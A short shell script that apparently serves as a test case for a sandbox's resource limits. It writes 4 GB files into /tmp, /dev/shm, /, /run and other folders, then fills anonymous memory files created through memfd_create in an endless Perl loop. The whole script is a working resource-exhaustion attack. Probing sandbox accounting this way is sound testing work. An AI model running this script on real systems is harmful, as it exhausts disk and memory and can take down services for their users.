#!/bin/sh
# attack: fills shared memory and folders in memory, which are in no process
for folder in /tmp /dev/shm /dev /box / /run; do
  dd if=/dev/zero of=$folder/warren-attack-fill bs=1M count=4096 2>/dev/null
done
perl -e 'my $name = "x"; while (1) { my $fd = syscall(319, $name, 0); last if $fd < 0; open(my $file, "+<&=", $fd); push @kept, $file; print $file "x" x (16 << 20); }'
exit 1
